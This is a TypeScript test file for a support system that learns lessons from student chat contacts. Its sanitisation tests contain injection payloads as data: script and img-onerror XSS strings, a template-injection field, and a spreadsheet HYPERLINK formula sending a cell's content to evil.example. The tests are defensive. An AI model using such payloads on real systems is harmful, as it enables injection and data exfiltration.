import { createHash } from 'node:crypto';
import * as v from 'valibot';
import { expect, test } from 'vitest';
import { learnFromContact } from '../../../functions/learn/learn-from-contact.ts';
import { projectLexicon } from '../../../knowledge/project-lexicon.ts';
import { type ContactEvent, Learned } from '../../../shared/domain/contact/event.ts';
import { recontactMs, tallyArticles } from '../../../shared/domain/teaching/tally.ts';
import { memoryAnswerChecks } from '../../../shared/memory/answer-checks.ts';
import { memoryAnswerOutcomes, memoryLessons } from '../../../shared/memory/knowledge-lessons.ts';
import { memoryTables } from '../../../shared/memory/tables.ts';
import { AgentId, ContactId, StudentId } from '../../../shared/schema/ids.ts';

const noon = Date.parse('2026-09-07T04:00:00Z');
const digest = (text: string) => createHash('sha256').update(text).digest('hex');
const wang = v.parse(AgentId, 'ag_wang');

type Written = { readonly name?: string; readonly student?: string; readonly at?: number };

const opened = (student: string): ContactEvent => ({
  type: 'opened',
  studentId: v.parse(StudentId, `st_${student}`),
  channel: 'chat',
  language: 'en',
  class: 'standard',
});
const said = (text: string): ContactEvent => ({ type: 'message', from: 'student', clientSeq: 1, text });
const handedOver = (forSeq: number, reason = 'unsure'): ContactEvent => ({
  type: 'agent-requested',
  forSeq,
  reason,
  queue: 'general',
  candidates: [],
});
const closed = (learned?: Learned): ContactEvent => ({
  type: 'closed',
  outcome: 'resolved',
  by: 'agent',
  disposition: 'x',
  ...(learned ? { learned } : {}),
});
const answered = (...articleIds: string[]): ContactEvent => ({
  type: 'answered',
  forSeq: 2,
  kind: 'answer',
  text: 'a',
  articleIds,
  choices: [],
  confidence: 1,
});
const heard: ContactEvent = { type: 'urgency-raised', forSeq: 2, urgency: 'P1', danger: 'abuse' };
const verdict = (was: boolean, learned: Learned): ContactEvent => ({
  type: 'closed',
  outcome: 'resolved',
  by: 'agent',
  learned,
  danger: { was },
});
const left: ContactEvent = { type: 'abandoned', reason: 'left' };
const article = { kind: 'article', articleId: 'video-stutters' } as const;
const question = 'why does the hologram of my tutor flicker';

const lexicon = projectLexicon();

function school() {
  const lessons = memoryLessons();
  const outcomes = memoryAnswerOutcomes();
  const checks = memoryAnswerChecks(memoryTables());
  const learn = (events: readonly ContactEvent[], { name = 'one', student = 'mei', at = noon }: Written = {}) => {
    const contactId = v.parse(ContactId, `ct_contact_${name}`);
    const log = [opened(student), ...events].map((event, index) => ({ seq: index + 1, at: at + index, event }));
    const read = async (_contact: ContactId, after: number) => log.filter(({ seq }) => seq > after);
    return learnFromContact({ log: { read }, lessons, outcomes, checks, digest, lexicon }, contactId, at + 1000);
  };
  const all = async () => [
    ...(await lessons.list('exemplar', 100)),
    ...(await lessons.list('draft', 100)),
    ...(await lessons.list('unanswered', 100)),
  ];
  const toCheck = (language: 'en' | 'zh') => checks.open(language, wang, noon, 9);
  return { learn, lessons, outcomes, checks, toCheck, all };
}

test('an agent’s word that an article answered is an exemplar of the question that was handed over', async () => {
  const { learn, all } = school();

  await learn([
    said('hello'),
    said(question),
    handedOver(3),
    { type: 'noted', agentId: wang, text: 'n' },
    closed(article),
  ]);

  expect(await all()).toEqual([
    expect.objectContaining({
      kind: 'exemplar',
      text: question,
      lang: 'en',
      articleId: 'video-stutters',
      at: noon + 5,
    }),
  ]);
});

test.each([
  [{ kind: 'nothing-fits' } as const, { kind: 'exemplar', articleId: null }],
  [
    { kind: 'new-answer', text: 'Turn the projector on.' } as const,
    { kind: 'draft', answer: 'Turn the projector on.' },
  ],
])('%o is kept as %o', async (learned, kept) => {
  const { learn, all } = school();

  await learn([said(question), handedOver(2), closed(learned)]);

  expect(await all()).toEqual([expect.objectContaining({ text: question, ...kept })]);
});

test('learning the same contact again, or twice at once, changes nothing', async () => {
  const { learn, all } = school();
  const log = [said(question), handedOver(2), closed(article)];

  const added = await Promise.all([learn(log), learn(log)]);

  expect([...added, await learn(log)].sort()).toEqual([0, 0, 1]);
  expect(await all()).toHaveLength(1);
});

test('a student has one vote a question and day, two days two', async () => {
  const { learn, all } = school();
  const events = (learned: Learned) => [said(question), handedOver(2), closed(learned)];

  await learn(events(article), { name: 'one' });
  await learn(events({ kind: 'nothing-fits' }), { name: 'two', at: noon + 60_000 });
  await learn(events({ kind: 'nothing-fits' }), { name: 'three', at: noon + 86_400_000 });
  await learn(events(article), { name: 'four', student: 'tom' });

  const votes = await all();
  expect(votes.map((vote) => 'articleId' in vote && vote.articleId).sort()).toEqual(
    ['video-stutters', 'video-stutters', null].sort(),
  );
});

test('a question handed over for want of an answer, on which nobody said a word, is unanswered', async () => {
  const { learn, all } = school();

  await learn([said(question), handedOver(2), closed()], { name: 'one' });
  await learn([said(question), handedOver(2), left], { name: 'two', student: 'tom' });
  await learn([said('refund now'), handedOver(2, 'complaint'), closed()], { name: 'three' });
  await learn([said('thanks'), answered('a'), left], { name: 'four' });

  expect((await all()).map(({ kind, text }) => [kind, text])).toEqual([
    ['unanswered', question],
    ['unanswered', question],
  ]);
});

test('the call for a person, a greeting and nonsense teach nothing: the question before them does', async () => {
  const { learn, all } = school();

  await learn([
    said(question),
    said('asdfghjkl'),
    said('I want to talk to a human'),
    handedOver(4, 'asked-for-person'),
    closed(article),
  ]);
  await learn([said('转人工'), handedOver(2, 'asked-for-person'), closed(article)], { name: 'two' });

  expect((await all()).map(({ text }) => text)).toEqual([question]);
});

test('a contact that was reopened teaches with each of its closings', async () => {
  const { learn, all } = school();
  const reopened: ContactEvent = { type: 'reopened', reason: 'message' };

  await learn([
    ...[said(question), handedOver(2), closed(article)],
    ...[reopened, said('and how do I get an invoice for it'), handedOver(6), closed({ kind: 'nothing-fits' })],
  ]);

  expect(await all()).toHaveLength(2);
});

test.each([
  ['a script', '<script>alert(1)</script> why is my video black', '<script>alert(1)</script> why is my video black'],
  ['a formula', '=HYPERLINK("http://evil.example/?"&A1) why is my video black', '=HYPERLINK("[link]'],
  ['a template field', 'why is my video {{constructor}} black', 'why is my video {{constructor}} black'],
  ['control characters', 'why is\u0000 my \u001b[31mvideo\u202e bla\u200bck', 'why is my [31mvideo black'],
  [
    'personal data',
    'call me at 138 1234 5678 or write to ann@example.org, why is my video black',
    'call me at [phone] or write to [email], why',
  ],
])('%s in a question is kept as plain text only', async (_what, text, kept) => {
  const { learn, all } = school();

  await learn([said(text), handedOver(2), closed(article)]);

  const [lesson] = await all();
  expect(lesson?.text).toContain(kept);
  expect(lesson?.text).not.toMatch(/[\p{Cc}\p{Cf}]/u);
});

test('an answer of an agent is masked, plain and no longer than an article’s', async () => {
  const { learn, lessons } = school();
  const text = `Dear Ann,\u0007 write to ann@example.org\n<img src=x onerror=alert(1)>${'x'.repeat(1900)}`;

  await learn([said(question), handedOver(2), closed({ kind: 'new-answer', text })]);

  const [draft] = await lessons.list('draft', 10);
  expect(draft?.answer).toMatch(/^Dear Ann, write to \[email\]\n<img src=x/);
  expect(draft?.answer.length).toBeLessThanOrEqual(2000);
});

test('a frame with a longer answer, another kind or an id that is none is not learned from at all', () => {
  const bad = [
    { kind: 'new-answer', text: 'x'.repeat(1_000_000) },
    { kind: 'article', articleId: '=cmd' },
    { kind: 'article', articleId: '__proto__' },
    { kind: 'drop-table' },
  ];

  expect(bad.map((learned) => v.safeParse(Learned, learned).success)).toEqual([false, false, false, false]);
});

test('ratings and a new contact within 72 hours count against the article that answered', async () => {
  const { learn, outcomes } = school();
  const rated = (helpful: boolean): ContactEvent => ({ type: 'answer-rated', forSeq: 3, helpful });
  await learn([said(question), answered('good'), rated(true), closed()], { name: 'one', student: 'a' });
  await learn([said(question), answered('bad'), rated(false), closed()], { name: 'two', student: 'b' });
  await learn([said(question), answered('bad'), closed()], { name: 'three', student: 'c' });
  await learn([said(question), left], { name: 'four', student: 'c', at: noon + recontactMs });
  await learn([said(question), answered('late'), closed()], { name: 'five', student: 'd' });
  await learn([said(question), left], { name: 'six', student: 'd', at: noon + recontactMs + 10 });
  await learn([said(question), answered('helped'), handedOver(2), left], { name: 'seven', student: 'e' });
  await learn([said(question), left], { name: 'eight', student: 'e', at: noon + 60_000 });

  const days = ['2026-09-07', '2026-09-08', '2026-09-09', '2026-09-10'];
  const tallies = tallyArticles((await Promise.all(days.map((day) => outcomes.ofDay(day)))).flat());

  const brief = tallies.map(({ articleId, given, against, unhelpful, recontacted }) => [
    articleId,
    given,
    against,
    unhelpful,
    recontacted,
  ]);
  expect(brief[0]).toEqual(['bad', 2, 2, 1, 1]);
  expect(brief.slice(1).sort()).toEqual([
    ['good', 1, 0, 0, 0],
    ['helped', 1, 0, 0, 0],
    ['late', 1, 0, 0, 0],
  ]);
});

test('what is kept names no student and does not tell who it was', async () => {
  const { learn, all, outcomes } = school();

  await learn([said(question), handedOver(2), closed(article)], { student: 'mei.lin' });

  expect(JSON.stringify([await all(), await outcomes.ofDay('2026-09-07')])).not.toContain('mei');
});

const drawnFor = (forSeq: number): ContactEvent => ({
  type: 'answered',
  forSeq,
  kind: 'answer',
  text: 'a',
  articleIds: ['video-stutters'],
  choices: [],
  confidence: 1,
  toCheck: [],
});
const drawn = drawnFor(2);
const judged: ContactEvent = { type: 'answer-checked', forSeq: 3, agentId: wang, verdict: 'right' };

test('an answer that was drawn waits to be checked: what was asked, masked, in its language, and what was said before', async () => {
  const { learn, toCheck } = school();

  await learn([said('hello'), said('one'), said('two'), said('three'), said('我叫李雷，视频很卡'), drawnFor(6)]);

  expect(await toCheck('zh')).toEqual([
    {
      contactId: 'ct_contact_one',
      seq: 7,
      language: 'zh',
      answeredAt: noon + 6,
      before: ['one', 'two', 'three'],
      question: '我叫[name]，视频很卡',
      answer: 'a',
      articleIds: ['video-stutters'],
      candidates: [],
    },
  ]);
  expect(await toCheck('en')).toEqual([]);
});

test('a check that cannot be put loses neither the outcome nor a lesson', async () => {
  const { learn, outcomes, checks, all } = school();
  checks.put = () => Promise.reject(new Error('throttled'));

  await expect(learn([said(question), drawn, said(question), handedOver(4), left])).rejects.toThrow('throttled');

  expect(await outcomes.ofDay('2026-09-07')).toHaveLength(1);
  expect(await all()).toHaveLength(1);
});

test('an answer waits once, however often its contact is learned from, and no more once it was judged', async () => {
  const { learn, toCheck } = school();
  await learn([said(question), drawn]);
  await learn([said(question), drawn, left]);

  const before = await toCheck('en');
  await learn([said(question), drawn, left, judged]);
  await learn([said(question), drawn, left, judged]);

  expect(before).toHaveLength(1);
  expect(await toCheck('en')).toEqual([]);
});

test.each<readonly [string, ContactEvent]>([
  ['heard', { type: 'urgency-raised', forSeq: 2, urgency: 'P1', danger: 'abuse' }],
  ['found by the agent', { type: 'closed', outcome: 'resolved', by: 'agent', danger: { was: true } }],
])('an answer waits no more once a danger was %s in its contact', async (_how, danger) => {
  const { learn, toCheck } = school();
  await learn([said(question), drawn]);

  await learn([said(question), drawn, danger, left]);

  expect(await toCheck('en')).toEqual([]);
});

test.each<readonly [string, number, readonly ContactEvent[]]>([
  ['was heard', 0, [handedOver(2, 'danger'), heard, closed(article)]],
  ['was heard, and whoever had it says that it was one', 0, [handedOver(2), heard, verdict(true, article)]],
  ['was found by the agent alone', 0, [handedOver(2), verdict(true, article)]],
  ['was heard, and whoever had it says that there was none', 1, [handedOver(2), heard, verdict(false, article)]],
  ['was heard anew after that', 0, [handedOver(2), heard, verdict(false, article), heard, closed(article)]],
  ['was heard, and the student left', 0, [handedOver(2), heard, left]],
])('where a danger %s, %i lessons are kept', async (_what, kept, events) => {
  const { learn, all } = school();

  await learn([said(question), ...events]);

  expect(await all()).toHaveLength(kept);
});

test('answers that were not drawn wait for nobody', async () => {
  const { learn, toCheck } = school();

  await learn([said(question), answered('video-stutters'), left]);

  expect(await toCheck('en')).toEqual([]);
});
